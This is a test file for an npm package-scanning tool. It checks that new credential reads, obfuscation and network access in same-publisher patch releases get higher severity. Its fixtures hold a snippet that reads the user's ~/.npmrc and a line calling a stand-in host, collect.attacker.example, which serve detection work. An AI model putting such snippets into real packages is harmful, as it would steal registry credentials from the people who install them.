/**
 * Same-publisher patch releases: a new strong capability in shipped code is at least high, and new
 * obfuscation with new network access anywhere in the package is critical; other releases keep the
 * detectors' own severities.
 */
import { analyseContents, type ReleaseContext } from '../../src/content/index.js';
import { releaseContext } from '../../src/signals/content-release.js';
import type { Packument } from '../../src/model/index.js';
import { archive, manifest, obfuscatedIife, readableModule } from './builders.js';

const SAME_PATCH: ReleaseContext = { samePublisher: true, patch: true };
const lib = readableModule('cfg', 8);
const stealer = `${lib}const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n`;

function analyse(files: Record<string, [string, string]>, release?: ReleaseContext) {
  const side = (i: 0 | 1) => Object.fromEntries(Object.entries(files).map(([p, v]) => [p, v[i]]));
  const before = archive('pkg', '1.2.3', { 'package.json': manifest('pkg', '1.2.3'), 'index.js': "require('./lib/config.js');\n", ...side(0) });
  const after = archive('pkg', '1.2.4', { 'package.json': manifest('pkg', '1.2.4'), 'index.js': "require('./lib/config.js');\n", ...side(1) });
  return analyseContents(before, after, release ? { release } : {}).findings;
}

describe('same-publisher patch escalation', () => {
  it('raises a new credential read outside the entry points to high', () => {
    const [f] = analyse({ 'lib/config.js': [lib, stealer] }, SAME_PATCH);
    expect(f).toMatchObject({ signal: 'new-capability', severity: 'high' });
    expect(f!.evidence.kinds).toContain('same-publisher patch');
  });

  it('keeps it at medium for another publisher or a minor release (other signals speak to those)', () => {
    expect(analyse({ 'lib/config.js': [lib, stealer] }, { samePublisher: false, patch: true })[0]?.severity).toBe('medium');
    expect(analyse({ 'lib/config.js': [lib, stealer] }, { samePublisher: true, patch: false })[0]?.severity).toBe('medium');
    expect(analyse({ 'lib/config.js': [lib, stealer] })[0]?.severity).toBe('medium');
  });

  it('leaves tests and examples alone', () => {
    expect(analyse({ 'test/config.js': [lib, stealer] }, SAME_PATCH)[0]?.severity).toBe('medium');
  });

  it('makes obfuscation critical when another file of the package gains network access', () => {
    const obf = `${lib}${obfuscatedIife(['a', 'b', 'c'])}\n`;
    const net = `${lib}require('https').get('https://collect.attacker.example/x');\n`;
    const findings = analyse({ 'lib/util.js': [lib, obf], 'lib/config.js': [lib, net] }, SAME_PATCH);
    expect(findings.find((f) => f.signal === 'obfuscated-code')).toMatchObject({
      severity: 'critical',
      evidence: expect.objectContaining({ file: 'lib/util.js' }),
    });
    const plain = analyse({ 'lib/util.js': [lib, obf], 'lib/config.js': [lib, net] });
    expect(plain.find((f) => f.signal === 'obfuscated-code')?.severity).toBe('medium');
  });
});

describe('release context from the registry document', () => {
  const doc = (versions: Record<string, string | undefined>): Packument =>
    ({
      name: 'pkg',
      versions: new Map(Object.entries(versions).map(([v, user]) => [v, { name: 'pkg', version: v, ...(user ? { npmUser: { name: user } } : {}) }])),
      distTags: new Map(),
      abbreviated: false,
    }) as unknown as Packument;

  it('is a same-publisher patch for 1.2.4 and 1.2.4-rc.1 after 1.2.3 by the same account', () => {
    const p = doc({ '1.2.3': 'alice', '1.2.4': 'alice', '1.2.4-rc.1': 'alice', '1.3.0': 'alice', '1.2.5': 'mallory' });
    expect(releaseContext(p, '1.2.4', '1.2.3')).toEqual({ samePublisher: true, patch: true });
    expect(releaseContext(p, '1.2.4-rc.1', '1.2.3')).toEqual({ samePublisher: true, patch: true });
    expect(releaseContext(p, '1.3.0', '1.2.3')).toEqual({ samePublisher: true, patch: false });
    expect(releaseContext(p, '1.2.5', '1.2.3')).toEqual({ samePublisher: false, patch: true });
    expect(releaseContext(p, '1.2.3', '1.2.4')).toEqual({ samePublisher: true, patch: false });
  });

  it('is unknown when a version has no publisher or there is nothing to compare with', () => {
    const p = doc({ '1.0.0': undefined, '1.0.1': 'alice' });
    expect(releaseContext(p, '1.0.1', '1.0.0')).toBeNull();
    expect(releaseContext(p, '1.0.1', null)).toBeNull();
  });
});
